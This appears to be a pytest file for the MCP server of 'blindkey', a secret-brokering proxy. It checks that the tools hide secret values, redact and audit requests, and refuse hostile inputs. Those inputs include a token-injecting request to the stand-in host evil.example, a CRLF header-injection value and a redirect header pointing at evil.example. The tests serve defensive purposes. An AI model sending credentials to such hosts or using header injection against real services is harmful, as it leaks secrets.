"""`blindkey mcp serve` driven by the mcp SDK's own stdio client, against a running proxy and
broker: three tools, none that reads a value or changes policy; http_request goes through
the proxy (checked, redacted, recorded); every tool call is an `mcp` record."""

from __future__ import annotations

import json
import os
import sys
from typing import Any

import orjson
import pytest
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from blindkey.config.paths import Paths
from tests.conftest import ROOT
from tests.proxy.conftest import SECRET, open_env, set_secret_policy


def _result(answer: Any) -> Any:
    """A tool's answer as data (structured content, else the JSON of its text)."""
    assert not answer.is_error, answer
    if answer.structured_content is not None:
        content = answer.structured_content
        return content.get("result", content) if isinstance(content, dict) else content
    return json.loads(answer.content[0].text)


@pytest.mark.timeout(90)
async def test_tools_through_the_sdk_client(home: Paths) -> None:
    set_secret_policy(home, "STRIPE_KEY", tier="restricted", hosts=["api.stripe.com"])
    async with open_env(home) as env:
        server = StdioServerParameters(
            command=sys.executable,
            args=["-m", "blindkey.cli", "mcp", "serve"],
            env={
                **os.environ,
                "BLINDKEY_HOME": str(home.config_dir),
                "BLINDKEY_AGENT_TOKEN": env.token,
            },
            cwd=str(ROOT),
        )
        async with stdio_client(server) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            tools = await session.list_tools()
            assert sorted(t.name for t in tools.tools) == [
                "http_request",
                "list_allowlist",
                "list_secrets",
            ]

            secrets = _result(await session.call_tool("list_secrets", {}))
            by_name = {s["name"]: s for s in secrets}
            assert sorted(by_name) == ["BASIC_PAIR", "GITHUB_TOKEN", "STRIPE_KEY"]
            assert by_name["STRIPE_KEY"]["tier"] == "restricted"
            assert by_name["STRIPE_KEY"]["hosts"] == ["api.stripe.com"]
            assert set(by_name["GITHUB_TOKEN"]) == {"name", "tier", "hosts", "release"}
            assert SECRET not in json.dumps(secrets)

            allowlist = _result(await session.call_tool("list_allowlist", {}))
            assert allowlist == [env.base]

            answer = _result(
                await session.call_tool(
                    "http_request",
                    {
                        "method": "post",
                        "url": f"{env.base}/things",
                        "inject": {"bearer": "GITHUB_TOKEN", "header:X-Other": "BASIC_PAIR"},
                        "headers": {"Content-Type": "application/json"},
                        "body": '{"q": 1}',
                    },
                )
            )
            assert answer["status"] == 200
            echoed = json.loads(answer["body"])
            assert (echoed["method"], echoed["path"], echoed["body"]) == (
                "POST",
                "/things",
                '{"q": 1}',
            )
            assert answer["headers"]["X-Echo-Authorization"] == "Bearer [REDACTED:GITHUB_TOKEN]"
            assert SECRET not in json.dumps(answer)

            bearer = {"bearer": "GITHUB_TOKEN"}
            refused = _result(
                await session.call_tool(
                    "http_request",
                    {"method": "GET", "url": "https://evil.example/", "inject": bearer},
                )
            )
            assert refused["status"] == 403
            assert json.loads(refused["body"])["error"] == "host_not_allowed"

            bad = await session.call_tool(
                "http_request", {"method": "GET", "url": env.base, "inject": {"cookie": "X"}}
            )
            assert bad.is_error
            for wrong in ({"method": "GET /x"}, {"headers": {"X-A": "1\r\nX-B: 2"}}):
                arguments = {"method": "GET", "url": env.base, "inject": bearer, **wrong}
                bad = await session.call_tool("http_request", arguments)
                assert bad.is_error and "Error executing tool http_request: " in str(bad.content)
            bad = await session.call_tool(
                "http_request",
                {"method": "GET", "url": env.base, "inject": {"bearer": "GITHUB_TOKEN"},
                 "headers": {"X-AS-Target-URL": "https://evil.example/"}},
            )  # fmt: skip
            assert bad.is_error

        await env.server.audit.flush()
        lines = (home.audit_dir / "audit.jsonl").read_bytes().splitlines()
        records = [orjson.loads(line) for line in lines]
        tools_used = [(r["tool"], r["agent"]) for r in records if r.get("event") == "mcp"]
        assert tools_used == [
            ("list_secrets", "tester"),
            ("list_allowlist", "tester"),
            ("http_request", "tester"),
            ("http_request", "tester"),
        ]
        asked = [r for r in records if r.get("event") == "mcp" and r["tool"] == "http_request"]
        assert asked[0]["secrets"] == ["BASIC_PAIR", "GITHUB_TOKEN"]
        assert asked[0]["url"] == f"{env.base}/things"
        requests = [r for r in records if r.get("event", "request") == "request" and r.get("host")]
        assert [r["decision"] for r in requests][-2:] == ["allowed", "blocked"]
        assert SECRET.encode() not in b"".join(lines)


async def test_a_wrong_token_lists_nothing(home: Paths) -> None:
    async with open_env(home):
        server = StdioServerParameters(
            command=sys.executable,
            args=["-m", "blindkey.cli", "mcp", "serve"],
            env={**os.environ, "BLINDKEY_HOME": str(home.config_dir), "BLINDKEY_AGENT_TOKEN": "x"},
            cwd=str(ROOT),
        )
        async with stdio_client(server) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            answer = await session.call_tool("list_secrets", {})
            assert answer.is_error
            assert "unauthenticated" in answer.content[0].text  # type: ignore[union-attr]


async def test_no_token_names_the_variable_to_set(home: Paths) -> None:
    async with open_env(home):
        env = {k: v for k, v in os.environ.items() if k != "BLINDKEY_AGENT_TOKEN"}
        server = StdioServerParameters(
            command=sys.executable,
            args=["-m", "blindkey.cli", "mcp", "serve"],
            env={**env, "BLINDKEY_HOME": str(home.config_dir)},
            cwd=str(ROOT),
        )
        async with stdio_client(server) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            answer = await session.call_tool("list_secrets", {})
            assert answer.is_error
            text = answer.content[0].text  # type: ignore[union-attr]
            assert "BLINDKEY_AGENT_TOKEN is not set" in text and "X-AS-" not in text


def test_mcp_config_prints_a_snippet(run_cli: Any) -> None:
    done = run_cli("mcp", "config")
    assert done.returncode == 0
    snippet = json.loads(done.stdout)["mcpServers"]["blindkey"]
    assert snippet["args"][-2:] == ["mcp", "serve"]
    assert "BLINDKEY_AGENT_TOKEN" in snippet["env"]
    assert "claude_desktop_config.json" in done.stderr
